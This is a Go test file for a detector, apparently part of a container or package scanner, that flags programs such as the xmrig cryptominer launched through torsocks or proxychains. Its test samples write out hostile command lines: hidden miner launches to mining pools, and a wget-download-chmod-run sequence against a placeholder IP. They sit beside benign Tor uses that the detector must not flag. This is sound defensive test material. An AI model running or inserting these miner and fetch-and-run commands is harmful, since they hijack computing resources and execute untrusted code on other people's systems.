package anonymizer

import (
	"strings"
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func rules(t testing.TB) Rules {
	t.Helper()
	var r Rules
	indicatortest.Decode(t, name, &r)
	return r
}

func samples() []indicatortest.Sample {
	script, text, config := trust.KindScript, trust.KindText, trust.KindConfig
	return []indicatortest.Sample{
		{Name: "miner", Path: "a.sh", Kind: script, Content: "proxychains4 -q ./xmrig --url=$POOL &\n", Want: trust.Strong},
		{Name: "miner-torsocks", Path: "a.sh", Kind: script, Content: "nohup torsocks xmrig --url x.onion:10032 >/dev/null 2>&1 &", Want: trust.Strong},
		{Name: "options", Path: "a.sh", Kind: script, Content: "sudo torify /opt/kworker -o stratum+tcp://203.0.113.7:3333 -u x", Want: trust.Strong},
		{Name: "own-pool", Path: "a.sh", Kind: script, Content: "if true; then proxychains -f /etc/p.conf /opt/kworker -o 203.0.113.7:3333 -u x -p x; fi", Want: trust.Strong},
		{Name: "downloaded", Path: "a.sh", Kind: script, Content: "wget -O /tmp/.d http://203.0.113.7/d\nchmod +x /tmp/.d\ntorsocks /tmp/.d\n", Want: trust.Proof},
		{Name: "downloaded-elsewhere", Path: "a.sh", Kind: script, Content: "wget -O /opt/d http://203.0.113.7/d\nchmod +x /opt/d\ntorsocks /opt/d\n", Want: trust.Strong},
		{Name: "supervisord", Path: "etc/supervisor/conf.d/a.conf", Kind: script, Content: "[program:a]\ncommand=proxychains4 -q /usr/lib/a -o 203.0.113.7:80 -u a -p x\n", Want: trust.Strong},
		{Name: "python-list", Path: "dao.py", Kind: script, Content: "subprocess.Popen([\n  'proxychains4', '-q',\n  path + '/xmrig', '-c', 'x'\n])", Want: trust.Strong},
		{Name: "python-string", Path: "dao.py", Kind: script, Content: `os.system("proxychains4 ./xmrig -o 203.0.113.7:3333 -u w")`, Want: trust.Strong},
		{Name: "python-unknown", Path: "dao.py", Kind: script, Content: `subprocess.call(["torsocks", "/opt/dao/worker"])`, Want: trust.Weak, IfRun: trust.Strong},
		{Name: "json-entrypoint", Path: "config:entrypoint", Kind: config, Content: `["proxychains4","./xmrig","-o","203.0.113.7:3333"]`, Want: trust.Strong},
		{Name: "joined-entrypoint", Path: "config:entrypoint", Kind: config, Content: `proxychains4 /opt/worker`, Want: trust.Weak, IfRun: trust.Strong},
		{Name: "command", Path: "config:command", Kind: config, Content: `proxychains4 /opt/worker`, Want: trust.Strong},
		{Name: "shell-form", Path: "config:cmd", Kind: config, Content: `["/bin/sh","-c","proxychains4 ./xmrig -o x"]`, Want: trust.Strong},
		{Name: "shell-c", Path: "a.sh", Kind: script, Content: `exec sh -c 'torsocks ./xmrig -o x'`, Want: trust.Strong},
		{Name: "variable", Path: "a.sh", Kind: script, Content: "ALL_PROXY=socks5h://127.0.0.1:9050 ./xmrig -o x\n", Want: trust.Strong},
		{Name: "env-program", Path: "a.sh", Kind: script, Content: "env ALL_PROXY=socks5h://127.0.0.1:9050 /opt/worker --nicehash\n", Want: trust.Strong},
		{Name: "unknown", Path: "a.sh", Kind: script, Content: "torsocks ./server\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "ordinary-with-options", Path: "a.sh", Kind: script, Content: "torsocks ./bash -o stratum+tcp://203.0.113.7:1 -u w\n", Want: trust.Strong},
		{Name: "unit", Path: "etc/systemd/system/x.service", Kind: text, Content: "[Service]\nExecStart=/usr/bin/torsocks /opt/xmrig -c /x\n", Want: trust.Strong},
		{Name: "dockerfile-history", Path: "config:history", Kind: config, Content: `CMD ["proxychains4" "./xmrig" "-o" "x"]`, Want: trust.Strong},
	}
}

func TestIndicator(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	script, text, config, exe := trust.KindScript, trust.KindText, trust.KindConfig, trust.KindExecutable
	indicatortest.Run(t, ind, samples(), []indicatortest.Twin{
		{Name: "install", Path: "config:history", Kind: config, Content: "/bin/sh -c apt-get update && apt-get install -y tor proxychains4 curl && rm -rf /var/lib/apt/lists/*"},
		{Name: "install-list", Path: "a.py", Kind: script, Content: `run(["apt-get", "install", "-y", "torsocks", "/tmp/x.deb"])`},
		{Name: "install-lines", Path: "a.sh", Kind: script, Content: "apk add \\\n  torsocks \\\n  /x.apk \\\n  proxychains-ng\n"},
		{Name: "torproxy", Path: "config:entrypoint", Kind: config, Content: `["tini","--","/usr/bin/torproxy.sh"]`},
		{Name: "health-check", Path: "config:healthcheck", Kind: config, Content: "curl -x socks5h://127.0.0.1:9050 'https://check.torproject.org/api/ip'"},
		{Name: "environment", Path: "config:env", Kind: config, Content: "ALL_PROXY=socks5h://127.0.0.1:9050"},
		{Name: "torsocks-curl", Path: "a.sh", Kind: script, Content: "torsocks curl https://x.onion/ && proxychains4 -q git clone x && torify /usr/bin/wget x\n"},
		{Name: "browser", Path: "usr/bin/start", Kind: script, Content: "exec torsocks /usr/bin/torbrowser-launcher \"$@\"\n"},
		{Name: "wrapper", Path: "usr/bin/t", Kind: script, Content: "exec torsocks \"$@\"\n"},
		{Name: "mention", Path: "a.sh", Kind: script, Content: "echo \"use torsocks ./x or proxychains4 ./y\"\n# torsocks ./xmrig\ncommand -v torsocks /x\nwhich proxychains4 /y\n"},
		{Name: "documentation", Path: "usr/share/doc/proxychains4/README.md", Kind: text, Content: "proxychains4 ./xmrig -o x"},
		{Name: "library", Path: "usr/lib/libtorsocks.so", Kind: exe, Content: "\x7fELF\x00torsocks ./xmrig\x00"},
		{Name: "preload", Path: "usr/bin/torsocks", Kind: script, Content: "export LD_PRELOAD=/usr/lib/torsocks/libtorsocks.so\nexec \"$@\"\n"},
		{Name: "proxychains-configuration", Path: "etc/proxychains4.conf", Kind: text, Content: "# proxychains.conf  VER 4.x\nstrict_chain\n[ProxyList]\nsocks4 127.0.0.1 9050\n"},
		{Name: "python-variable", Path: "a.py", Kind: script, Content: "proxies = {'http': 'socks5h://127.0.0.1:9050', 'https': 'socks5h://127.0.0.1:9050'}\nrequests.get(u, proxies=proxies)\n"},
	})
}

func TestNewRefuses(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*Rules){
		"nothing": func(r *Rules) { *r = Rules{} },
		"short":   func(r *Rules) { r.Wrappers = []string{"tor"} },
	} {
		r := rules(t)
		change(&r)
		if _, err := New(r); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func FuzzHit(f *testing.F) {
	ind, err := New(rules(f))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range samples() {
		f.Add([]byte(s.Content))
	}
	f.Fuzz(func(_ *testing.T, in []byte) {
		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
	})
}

func TestUnread(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		content string
		want    bool
	}{
		"bait":    {strings.Repeat("x torsocks y\n", 3000), true},
		"proxies": {strings.Repeat("socks5://203.0.113.1:1080\n", 5000), false},
	} {
		file := indicator.File{Path: "run.sh", Kind: trust.KindScript}
		if got := indicatortest.Unread(ind, file, []byte(tc.content), indicatortest.Drive{}); (got != "") != tc.want {
			t.Errorf("%s: unread: %q", name, got)
		}
	}
}
